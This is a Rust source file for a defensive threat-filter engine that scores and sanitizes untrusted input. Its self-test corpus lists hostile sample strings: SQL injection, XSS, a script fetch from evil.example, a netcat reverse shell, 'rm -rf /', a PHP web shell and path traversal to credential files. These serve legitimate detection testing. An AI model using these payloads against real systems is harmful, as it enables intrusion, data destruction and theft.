//! The threat filter engine
//!
//! Explicitly constructed and owned by the caller; multiple engines with
//! different configurations can coexist. A single call runs the whole
//! pipeline synchronously: canonicalize, score, match, classify, decide,
//! and optionally sanitize. Nothing in a call can fail; the worst outcome
//! for hostile input is a conservative unsafe verdict.

use std::path::Path;
use std::sync::Arc;
use std::time::Instant;

use anyhow::{Context, Result};
use parking_lot::RwLock;
use serde::{Deserialize, Serialize};
use tracing::{debug, info, warn};

use crate::config::Config;
use crate::neutralizer;
use crate::scanner::{
    context, entropy, heuristics, matcher, normalize, patterns::RuleSet, scoring, AnalysisResult,
};
use crate::stats::{EngineStats, StatsSnapshot};

/// Canonical attack corpus used by `self_test`
const SELF_TEST_CORPUS: &[&str] = &[
    // SQL injection
    "' OR '1'='1",
    "1' OR '1'='1' --",
    "admin' --",
    "1' UNION SELECT username, password FROM users--",
    "Robert'); DROP TABLE students;--",
    "1; DELETE FROM orders WHERE 1=1",
    "' AND sleep(5)--",
    "'; WAITFOR DELAY '0:0:5'--",
    // Script injection
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(String.fromCharCode(88,83,83))",
    "<iframe src=\"http://evil.example/login\"></iframe>",
    "<svg onload=alert(1)>",
    // Command injection
    "; rm -rf /",
    "$(cat /etc/passwd)",
    "`wget http://evil.example/x.sh`",
    "| nc -e /bin/sh 10.0.0.1 4444",
    // Server-side code injection
    "<?php system($_GET['cmd']); ?>",
    "eval(base64_decode($_POST['payload']))",
    // Template injection
    "{{7*7}}",
    "${7*7}",
    // Path traversal
    "../../etc/passwd",
    "..\\..\\Windows\\System32\\config\\sam",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    // Protocol smuggling
    "%0d%0aSet-Cookie: admin=true",
    "GET /admin HTTP/1.1\r\nTransfer-Encoding: chunked",
];

/// Required detection rate over the corpus
const SELF_TEST_PASS_RATE: f64 = 0.95;

/// Multi-stage threat detection and sanitization engine
pub struct ThreatFilterEngine {
    config: Config,
    rules: RwLock<Arc<RuleSet>>,
    stats: EngineStats,
}

/// Outcome of a self-test run
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct SelfTestReport {
    pub passed: bool,
    pub detection_rate: f64,
    pub corpus_size: usize,
    pub detected: usize,
    pub missed: Vec<String>,
}

/// Metadata of the currently loaded rule snapshot
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct RuleSetInfo {
    pub version: String,
    pub rule_count: usize,
    pub discarded: usize,
}

impl ThreatFilterEngine {
    /// Create an engine from a validated configuration.
    ///
    /// Loads the rule snapshot (a corrupt external document downgrades to
    /// the emergency set) and starts a fresh statistics block. This is the
    /// only operation that can fail.
    pub fn new(mut config: Config) -> Result<Self> {
        let loaded = RuleSet::load(config.patterns.source.as_deref());
        if config.patterns.apply_document_tuning {
            if let Some(tuning) = &loaded.tuning {
                config.apply_tuning(tuning);
            }
        }
        config
            .validate()
            .context("invalid engine configuration")?;

        info!(
            version = %loaded.set.version,
            rules = loaded.set.len(),
            discarded = loaded.set.discarded,
            "threat filter engine ready"
        );

        Ok(Self {
            config,
            rules: RwLock::new(loaded.set),
            stats: EngineStats::new(),
        })
    }

    /// Analyze one untrusted input and optionally sanitize it.
    ///
    /// With `strict` set, unsafe input is returned redacted; otherwise
    /// `filtered_text` always equals the original.
    pub fn filter_input(&self, text: &str, strict: bool) -> AnalysisResult {
        let result = self.analyze(text, strict);
        let blocked = !result.is_safe && strict;
        self.stats.record_scan(!result.is_safe, blocked);

        if result.is_safe {
            debug!(
                target: "ironveil.scan",
                len = text.len(),
                score = result.ml_score,
                "input clean"
            );
        } else {
            warn!(
                target: "ironveil.scan",
                level = %result.threat_level,
                threats = result.threats_detected.len(),
                score = result.ml_score,
                blocked,
                "threat detected"
            );
        }

        result
    }

    /// Run the pipeline without touching statistics.
    fn analyze(&self, text: &str, strict: bool) -> AnalysisResult {
        let started = Instant::now();
        let snapshot = self.rules.read().clone();

        let normalized = normalize(text);
        let entropy = entropy::shannon_entropy(&normalized);
        let heuristic = heuristics::analyze(&normalized, entropy, &self.config.heuristics);
        let matches = matcher::scan(&normalized, &snapshot);
        let contexts = context::classify(&normalized);
        let ml_score =
            scoring::composite_score(&normalized, heuristic.score, entropy, &self.config.scoring);

        let is_safe = !scoring::is_unsafe(
            matches.len(),
            ml_score,
            heuristic.score,
            &self.config.thresholds,
        );
        let threat_level = scoring::threat_level(
            matches.len(),
            ml_score,
            heuristic.score,
            &self.config.thresholds,
        );

        let mut threats_detected = heuristic.tags;
        threats_detected.extend(matches.iter().map(|hit| hit.tag.clone()));

        let filtered_text = if !is_safe && strict {
            neutralizer::sanitize(&normalized, &matches, &snapshot, &self.config.sanitizer)
        } else {
            text.to_string()
        };

        AnalysisResult {
            is_safe,
            filtered_text,
            original_text: text.to_string(),
            threats_detected,
            heuristic_score: heuristic.score,
            ml_score,
            entropy,
            contexts,
            processing_time_ms: started.elapsed().as_secs_f64() * 1000.0,
            threat_level,
        }
    }

    /// Snapshot of the engine counters.
    pub fn stats(&self) -> StatsSnapshot {
        self.stats.snapshot()
    }

    /// Metadata of the active rule snapshot.
    pub fn rule_info(&self) -> RuleSetInfo {
        let snapshot = self.rules.read();
        RuleSetInfo {
            version: snapshot.version.clone(),
            rule_count: snapshot.len(),
            discarded: snapshot.discarded,
        }
    }

    /// Replace the rule snapshot from `source`, or the built-in document
    /// when `None`.
    ///
    /// The swap is atomic; scans already in flight finish against the
    /// snapshot they started with. Tuning sections of reloaded documents
    /// are ignored because the configuration is fixed at construction.
    pub fn reload_patterns(&self, source: Option<&Path>) {
        let loaded = RuleSet::load(source);
        if loaded.tuning.is_some() {
            debug!("reloaded document carries a tuning section, reconstruct the engine to apply it");
        }

        info!(
            version = %loaded.set.version,
            rules = loaded.set.len(),
            discarded = loaded.set.discarded,
            "rule snapshot replaced"
        );
        *self.rules.write() = loaded.set;
    }

    /// Feed the canonical attack corpus through the analyzer and require
    /// at least 95% detection. Does not perturb engine statistics.
    pub fn self_test(&self) -> SelfTestReport {
        let mut missed = Vec::new();
        for input in SELF_TEST_CORPUS {
            if self.analyze(input, false).is_safe {
                missed.push((*input).to_string());
            }
        }

        let corpus_size = SELF_TEST_CORPUS.len();
        let detected = corpus_size - missed.len();
        let detection_rate = detected as f64 / corpus_size as f64;
        let passed = detection_rate >= SELF_TEST_PASS_RATE;

        if passed {
            info!(detection_rate, corpus_size, "self-test passed");
        } else {
            warn!(detection_rate, missed = missed.len(), "self-test failed");
        }

        SelfTestReport {
            passed,
            detection_rate,
            corpus_size,
            detected,
            missed,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn engine() -> ThreatFilterEngine {
        ThreatFilterEngine::new(Config::default()).unwrap()
    }

    #[test]
    fn test_construction_with_defaults() {
        let engine = engine();
        let info = engine.rule_info();
        assert!(info.rule_count > 30);
        assert_eq!(info.discarded, 0);
    }

    #[test]
    fn test_clean_input_passes_through() {
        let engine = engine();
        let result = engine.filter_input("Hello World", true);
        assert!(result.is_safe);
        assert_eq!(result.filtered_text, "Hello World");
    }

    #[test]
    fn test_self_test_does_not_touch_stats() {
        let engine = engine();
        let report = engine.self_test();
        assert!(report.passed);
        assert_eq!(engine.stats().total_processed, 0);
    }

    #[test]
    fn test_reload_falls_back_on_bad_source() {
        let engine = engine();
        engine.reload_patterns(Some(Path::new("/nonexistent/rules.json")));
        assert_eq!(engine.rule_info().version, "emergency");

        // built-in document restores the full set
        engine.reload_patterns(None);
        assert!(engine.rule_info().rule_count > 30);
    }

    #[test]
    fn test_invalid_config_is_rejected() {
        let mut config = Config::default();
        config.scoring.entropy = 2.0;
        assert!(ThreatFilterEngine::new(config).is_err());
    }

    #[test]
    fn test_strict_mode_blocks_and_counts() {
        let engine = engine();
        engine.filter_input("<script>alert(1)</script>", true);
        engine.filter_input("<script>alert(1)</script>", false);
        let stats = engine.stats();
        assert_eq!(stats.total_processed, 2);
        assert_eq!(stats.threats_detected, 2);
        assert_eq!(stats.threats_blocked, 1);
    }
}
